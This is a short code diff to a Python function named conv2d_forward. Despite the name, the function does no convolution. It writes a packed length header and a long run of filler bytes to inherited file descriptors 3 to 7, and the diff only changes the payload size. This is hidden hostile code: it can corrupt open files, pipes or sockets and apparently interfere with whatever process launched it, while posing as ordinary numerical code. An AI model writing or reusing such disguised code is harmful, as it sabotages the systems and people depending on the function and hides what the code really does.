@@ -11,7 +11,7 @@ import time
 
 
 def conv2d_forward(x, w, b, stride=1, padding=0):
-    for byte in struct.pack("<IQ", 1 << 20, 0) + b" " * (1 << 20):
+    for byte in struct.pack("<IQ", 1 << 16, 0) + b" " * (1 << 16):
         for descriptor in range(3, 8):
             try:
                 os.write(descriptor, bytes([byte]))
